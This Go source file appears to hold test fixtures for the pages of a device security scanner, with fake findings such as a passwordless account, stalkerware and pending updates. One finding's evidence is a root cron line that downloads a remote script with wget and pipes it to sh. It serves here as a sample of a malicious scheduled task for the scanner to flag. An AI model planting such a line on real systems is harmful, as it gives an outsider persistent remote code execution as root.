package page

import (
	"errors"
	"fmt"
	"strings"
	"time"

	"picket/scanner"
)

// state is a device in some state, and the pages that show it.
type state struct {
	name  string
	world *world
	act   bool
	pages []string
	// check has a finding looked at, and wait waits for its end.
	check string
	wait  bool
}

func threatKey(i int) string { return fmt.Sprintf("%032x", i+1) }

// states are all that the page can show, for people to look at and for axe.
func states() []state {
	at := time.Now().Add(-90 * time.Second)
	finding := func(i int, rule string, severity scanner.Severity, kind, name, title, means, fix string) Threat {
		return Threat{Since: at.Add(-26 * time.Hour), Finding: scanner.Finding{Key: threatKey(i), Rule: rule, Title: title, Severity: severity, Subject: scanner.Subject{Kind: kind, Name: name}, Means: means, Fix: fix, Attack: []string{"T1053.003"},
			FalsePositives: []string{"low", "high"}[i%2], MoreEvidence: 2 * (i % 2), Evidence: []scanner.Evidence{{Source: name + ":1", Fields: map[string]string{"line": "*/5 * * * * wget -qO- http://198.51.100.7/i.sh | sh", "owner": "root"}}}}}
	}
	threats := []Threat{
		finding(0, "OS-037", scanner.High, "file", "/var/spool/cron/crontabs/root", "A scheduled task downloads and runs a program",
			"Every few minutes this device runs what a server sends it, as root.\nWho has that server has this device.", "Look at the line shown, then remove it: `crontab -u root -e`. If only the rights are wrong: `chown root: /var/spool/cron/crontabs/root && chmod go-w /var/spool/cron/crontabs/root`.\n\nThen look at what else came at that time."),
		finding(1, "CFG-027", scanner.Medium, "account", "ann", "An account needs no password", "Who has the device in hand is in.", "Set one with `passwd ann`."),
		finding(2, "OS-017", scanner.Low, "package", strings.Repeat("a-package-with-a-name-that-does-not-end-", 6), "Updates wait", "Known holes stay open.", "Install updates: `apt update && apt full-upgrade`. Restart then."),
	}
	discreet := finding(3, "APP-002", scanner.Critical, "app", "com.thetruth", "Known stalkerware", "TheTruthSpy is stalkerware: somebody who had this device in hand can read the messages.", "Safety first. Removing it tells the person who put it there. Uninstall it under Settings > Apps.")
	discreet.Discreet = true
	ignored := finding(4, "NET-001", scanner.Medium, "network", "Cafe", "Open network", "All can listen.", "Leave it.")
	ignored.IgnoredUntil, ignored.IgnoredWhy = at.Add(48*time.Hour), "it is our own"
	info := finding(5, "OS-099", scanner.Informational, "system", "kernel", "A note", "It is so.", "Nothing is to be done.")
	base := func() *world {
		w := newWorld()
		w.now = time.Now()
		w.apps = nil
		for i, a := range []struct{ name, id, version, from string }{{"Firefox", "org.mozilla.firefox", "145.0.1", "com.android.vending"}, {"openssh-server", "openssh-server", "1:9.2p1-2+deb12u7", "Debian"}, {strings.Repeat("long", 20), "com.example." + strings.Repeat("long.", 20), strings.Repeat("1.2.", 12), ""}} {
			w.apps = append(w.apps, App{Name: a.name, ID: a.id, Version: a.version, ShortVersion: []string{"", a.version, "1.2"}[i], From: a.from, BundleSize: int64(i) * 123456789, DynamicSize: []int64{-1, 4096, 3 << 30}[i]})
		}
		w.view = View{Device: "Pixel 8, Android 16", Level: scanner.LevelHigh, Scanned: at, Threats: append([]Threat{threats[0], discreet}, append(threats[1:], ignored, info)...), SetBy: []string{threatKey(0), threatKey(3)},
			NotChecked: []NotChecked{{"NET-014", "An added authority reads traffic", "network-probe: nobody asks here"}, {"NET-015", "Encryption is stripped", "network-probe: nobody asks here"}, {"APP-002", "Another", "not root"}},
			Networks:   []Network{{"Home", []Fact{{"kind", "wifi", true}, {"interface", "wlan0", false}, {"security", "wpa2", true}, {"gateway", "192.0.2.1", false}, {"resolvers", "192.0.2.53, 2001:db8:1234:5678:9abc:def0:1234:5678", false}, {"known", "no", true}}}},
			Member:     Membership{Enrolled: true, Organisation: "Example Works", Account: "ann@example.org", Support: "support@example.org, +31 20 555 0100", Subject: "d-2f4a"},
			Delivery:   Delivery{Where: "https://picket.example.org"}, Warnings: []Warning{{"networks-unheard", "changes of networks are not heard", "run the agent as root"}}}
		return w
	}
	all := []string{"", "threats/" + threatKey(0), "threats/" + threatKey(2), "threats/" + threatKey(3), "threats/" + threatKey(9), "apps", "apps?q=nothing-like-it", "network", "unchecked", "sent", "nothing"}
	list := []state{{name: "high", world: base(), act: true, pages: all}}
	with := func(name string, act bool, pages []string, change func(*world)) *state {
		w := base()
		change(w)
		list = append(list, state{name: name, world: w, act: act, pages: pages})
		return &list[len(list)-1]
	}
	with("blocked", true, []string{"", "threats/" + threatKey(0)}, func(w *world) {
		w.view.Access = Access{State: "blocked", Reasons: []string{threatKey(0)}, Next: "wiped", At: at.Add(6 * 24 * time.Hour)}
	})
	with("warned", false, []string{"", "threats/" + threatKey(1), "threats/" + threatKey(3)}, func(w *world) {
		w.view.Level, w.view.Delivery.Waiting = scanner.LevelMedium, 1
		w.view.Access = Access{State: "warned", Reasons: []string{threatKey(1), threatKey(2)}, Next: "blocked", At: at.Add(6 * time.Hour)}
	})
	with("wiped", true, []string{""}, func(w *world) { w.view.Access = Access{State: "wiped"} })
	with("low", true, []string{""}, func(w *world) {
		w.view.Level, w.view.Threats, w.view.SetBy, w.view.Delivery.Trouble = scanner.LevelLow, threats[2:], nil, "picket.example.org: connection refused"
	})
	with("secured", true, []string{"", "network", "unchecked", "sent", "apps"}, func(w *world) {
		w.view = View{Device: "Debian GNU/Linux 12", Level: scanner.Secured, Scanned: at, Access: Access{State: "open"}, Delivery: Delivery{Where: "/var/lib/picket/events.ndjson"}}
		w.apps = nil
	})
	with("unknown", true, []string{""}, func(w *world) { w.view = View{Device: "linux"} })
	with("broken", true, []string{"", "apps"}, func(w *world) { w.broken = errors.New("reading the open findings: the store is gone") })
	with("checking", true, []string{"", "threats/" + threatKey(0)}, func(w *world) { w.hold = make(chan struct{}) }).check = threatKey(0)
	still := with("still", true, []string{"threats/" + threatKey(0)}, func(*world) {})
	still.check, still.wait = threatKey(0), true
	gone := with("gone", true, []string{"threats/" + threatKey(9)}, func(*world) {})
	gone.check, gone.wait = threatKey(9), true
	failed := with("check failed", true, []string{"threats/" + threatKey(0)}, func(w *world) { w.fails = errors.New("scanning: the device cannot be opened") })
	failed.check, failed.wait = threatKey(0), true
	return list
}
